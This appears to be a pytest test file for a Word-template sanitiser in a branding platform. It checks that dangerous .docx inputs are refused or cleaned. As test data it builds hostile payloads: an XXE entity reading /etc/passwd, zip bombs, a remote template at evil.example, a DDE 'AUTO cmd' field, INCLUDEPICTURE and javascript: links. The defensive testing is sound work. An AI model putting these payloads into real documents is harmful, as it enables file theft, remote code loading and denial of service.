"""Word templates that are refused, and what of the others is left out: nothing in one runs or is fetched."""

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

import docx
import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn

from brandplatform.publish.problems import NotATemplate
from brandplatform.publish.wordagency import report, to_agency_word
from tests.publish.documents import composed
from tests.publish.wordtemplates import letterhead, saved, with_cover

KIND = "application/vnd.openxmlformats-officedocument.wordprocessingml"
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SETTINGS = "word/_rels/settings.xml.rels"
RELATED = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)


def with_parts(data: bytes, parts: Mapping[str, bytes | str]) -> bytes:
    """Return a package with parts added or replaced."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(made, "w") as after:
        for name in [name for name in before.namelist() if name not in parts]:
            after.writestr(name, before.read(name))
        for name, part in parts.items():
            after.writestr(name, part)
    return made.getvalue()


def part_of(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return package.read(name).decode()


def everything(data: bytes) -> str:
    """Return all parts of a package, its fonts and pictures too, as one text."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return "\n".join(f"{name}\n{package.read(name).decode('latin-1')}" for name in package.namelist())


def as_kind(kind: str) -> bytes:
    """Return the letterhead as a file whose main part is of another kind."""
    data = saved(letterhead())
    types = part_of(data, "[Content_Types].xml").replace(f"{KIND}.document.main+xml", kind)
    return with_parts(data, {"[Content_Types].xml": types})


def related(kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationship Id="rId77" Type="{TYPES}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def in_body(xml: str, relationship: str = "", parts: Mapping[str, bytes | str] | None = None) -> bytes:
    """Return a template with a paragraph of XML in its body, and a relationship `rId77` of it."""
    word = letterhead()
    word.add_paragraph("Avant")
    word.element.body.insert(1, parse_xml(f"<w:p {nsdecls('w', 'r', 'a', 'wp', 'pic')}>{xml}</w:p>"))
    data, name = saved(word), "word/_rels/document.xml.rels"
    rels = part_of(data, name).replace("</Relationships>", f"{relationship}</Relationships>")
    return with_parts(data, {name: rels, **(parts or {})})


def written(data: bytes) -> str:
    """Return the body of the example on a template; python-docx opens it."""
    made = to_agency_word(composed(), {}, data)
    docx.Document(io.BytesIO(made))
    return part_of(made, "word/document.xml")


# Refused


def archive() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as package:
        package.writestr("a.txt", "a")
    return made.getvalue()


def bomb() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for number in range(5):
            package.writestr(f"word/media/image{number}.bmp", bytes(45 * 2**20))
    return made.getvalue()


def liar() -> bytes:
    """Return an archive that says its large part is small."""
    data = bytearray(with_parts(saved(letterhead()), {"word/zeros.xml": bytes(2**20)}))
    at = data.rindex(b"word/zeros.xml") - 46
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(data)


def encrypted_entry() -> bytes:
    data = bytearray(saved(letterhead()))
    at = data.rindex(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def doubled() -> bytes:
    made = io.BytesIO(saved(letterhead()))
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(made, "a") as package:
        package.writestr("word/document.xml", b"<x/>")
    return made.getvalue()


MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
STRICT = '<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body/></w:document>'
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "not_word"),
    "a text": (lambda: b"Bonjour", "not_word"),
    "a PDF": (lambda: b"%PDF-1.7", "not_word"),
    "a ZIP": (archive, "not_word"),
    "a spreadsheet": (lambda: as_kind("application/vnd.ms-excel.sheet.main+xml"), "not_word"),
    "strict Open XML": (lambda: with_parts(saved(letterhead()), {"word/document.xml": STRICT}), "not_word"),
    "a password": (lambda: bytes.fromhex("D0CF11E0A1B11AE1") + bytes(600), "locked"),
    "a part with a password": (encrypted_entry, "locked"),
    "macros": (lambda: as_kind(MACROS), "macros"),
    "macros in a .docx": (
        lambda: with_parts(saved(letterhead()), {"word/vbaProject.bin": b"x"}),
        "macros",
    ),
    "half a file": (lambda: saved(letterhead())[:9000], "damaged"),
    "a part that is no XML": (lambda: with_parts(saved(letterhead()), {"word/styles.xml": b"<w"}), "damaged"),
    "a body that is no body": (
        lambda: with_parts(saved(letterhead()), {"word/document.xml": f"<w:document {nsdecls('w')}/>"}),
        "damaged",
    ),
    "an entity": (lambda: with_parts(saved(letterhead()), {"word/x.xml": ENTITY}), "damaged"),
    "two parts of one name": (doubled, "damaged"),
    "a size that is not so": (liar, "damaged"),
    "too many bytes": (lambda: b"PK" + bytes(50 * 2**20), "too_big"),
    "too many bytes unpacked": (bomb, "too_big"),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_is_no_template_is_refused_in_a_sentence(what: str) -> None:
    make, reason = REFUSED[what]
    data = make()
    for door in (report, lambda data: to_agency_word(composed(), {}, data)):
        with pytest.raises(NotATemplate) as refused:
            door(data)
        assert refused.value.key == f"error.template_{reason}"


def test_a_dotx_is_a_template_and_gives_a_document() -> None:
    made = to_agency_word(composed(), {}, as_kind(f"{KIND}.template.main+xml"))
    assert f"{KIND}.document.main+xml" in part_of(made, "[Content_Types].xml")
    assert "template.main" not in part_of(made, "[Content_Types].xml")


# Left out


def test_a_template_of_the_template_is_not_kept() -> None:
    data = saved(letterhead())
    settings = part_of(data, "word/settings.xml")
    opening = settings.index(">", settings.index("<w:settings")) + 1
    attached = f'<w:attachedTemplate xmlns:r="{TYPES}" r:id="rId77"/>'
    attached += '<w:documentProtection w:edit="readOnly"/>'
    settings = settings[:opening] + attached + settings[opening:]
    rels = RELATED.format(related("attachedTemplate", "http://evil.example/t.dotm"))
    made = to_agency_word(composed(), {}, with_parts(data, {"word/settings.xml": settings, SETTINGS: rels}))
    assert "evil" not in everything(made)
    assert "attachedTemplate" not in part_of(made, "word/settings.xml")
    assert "documentProtection" not in part_of(made, "word/settings.xml")


LINKED = (
    '<w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="9" name="x"/><a:graphic>'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill>'
    '<a:blip r:link="rId77"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>'
    "</w:r>"
)
LINK = '<w:hyperlink r:id="rId77"><w:r><w:t>Xyz</w:t></w:r></w:hyperlink>'
CONTROL = '<w:r><w:object><w:control r:id="rId77"/></w:object></w:r>'


@pytest.mark.parametrize(
    ("xml", "relationship"),
    [
        (LINKED, related("image", "http://evil.example/a.png")),
        (LINKED, related("image", "\\\\evil.example\\a.png")),
        (CONTROL, related("control", "evil.xml", "Internal")),
        ('<w:subDoc r:id="rId77"/>', related("subDocument", "file:///evil.docx")),
        (LINK, related("hyperlink", "file://evil")),
        (LINK, related("hyperlink", "javascript:evil")),
    ],
)
def test_what_would_be_fetched_or_run_is_left_out(xml: str, relationship: str) -> None:
    data = in_body(xml, relationship, {"word/evil.xml": "<x/>"})
    body = written(data)
    assert "evil" not in everything(to_agency_word(composed(), {}, data))
    assert "rId77" not in body
    assert ("Xyz" in body) == (xml == LINK)


def test_a_link_a_person_may_follow_stays() -> None:
    data = in_body(LINK, related("hyperlink", "https://studio.example/"))
    assert "https://studio.example/" in everything(to_agency_word(composed(), {}, data))


def runs(*words: str, shown: str = "vu") -> str:
    """Return a field written as runs, its instruction cut in pieces."""
    code = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in words)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    return f"{mark('begin')}{code}{mark('separate')}<w:r><w:t>{shown}</w:t></w:r>{mark('end')}"


@pytest.mark.parametrize(
    "field",
    [
        runs(" DDE", "AUTO cmd evil"),
        runs(' INCLUDEPICTURE "http://evil.example/a.png" '),
        runs(" MACROBUTTON evil "),
        runs(' HYPERLINK "file://evil" '),
        runs(" QUOTE 68 68 69 "),
        '<w:fldSimple w:instr=" LINK evil "><w:r><w:t>vu</w:t></w:r></w:fldSimple>',
    ],
)  # fmt: skip
def test_a_field_that_fetches_or_runs_leaves_what_it_showed(field: str) -> None:
    body = written(in_body(field))
    assert "evil" not in body
    assert "QUOTE" not in body
    assert ">vu<" in body


@pytest.mark.parametrize("code", ["PAGE", 'HYPERLINK "https://a.example"', "DOCPROPERTY Company"])
def test_a_field_that_tells_what_the_file_knows_stays(code: str) -> None:
    assert code in written(in_body(runs(f" {code} ")))


def test_a_field_inside_another_is_judged_on_its_own() -> None:
    inner, outer = runs(" DDE evil "), '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    body = written(
        in_body(f"{outer('begin')}<w:r><w:instrText> IF </w:instrText></w:r>{inner}{outer('end')}")
    )
    assert "evil" not in body
    assert " IF " in body


def test_header_and_cover_are_searched_like_the_body() -> None:
    word = with_cover()
    footer = word.sections[0].footer.paragraphs[0]._p
    for one in parse_xml(f"<w:p {nsdecls('w')}>{runs(' INCLUDETEXT evil ')}</w:p>"):
        footer.append(one)
    made = docx.Document(io.BytesIO(to_agency_word(composed(), {}, saved(word))))
    footer = made.sections[0].footer._element
    assert [one.text for one in footer.iter(qn("w:instrText"))] == []
    assert "vu" in [one.text for one in footer.iter(qn("w:t"))]
